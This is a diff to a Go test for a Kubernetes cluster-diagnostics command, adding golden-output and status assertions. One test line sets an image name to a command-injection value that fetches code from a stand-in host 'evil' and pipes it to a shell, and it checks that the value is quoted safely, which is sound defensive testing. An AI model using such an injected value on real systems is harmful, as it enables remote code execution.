@@ -288,6 +288,8 @@ func TestCluster(t *testing.T) {
 	member.Status.Failing = []v1alpha1.ImageSummary{{Namespace: "vmdi-farm", Name: "centos-5", Reason: v1alpha1.ReasonNotFound, Message: "404"}}
 	w = why.NewCluster(now, member)
 	assert.Equal(t, exit.No, w.ExitCode())
+	rendertest.Golden(t, "cluster-failing", now, w)
+	assert.Equal(t, []any{"Failing", "1 failed image", (*metav1.Time)(nil)}, []any{w.Reason, w.Message, w.Since}, "its conditions are all well")
 	assert.Equal(t, []string{"kubectl ot why image centos-5 -n vmdi-farm --cluster edge-3"}, w.Commands)
 	member.Status.Failing[0].Name = "x;curl evil|sh"
 	assert.Equal(t, []string{"kubectl ot why image 'x;curl evil|sh' -n vmdi-farm --cluster edge-3"}, why.NewCluster(now, member).Commands, "a member names its images")
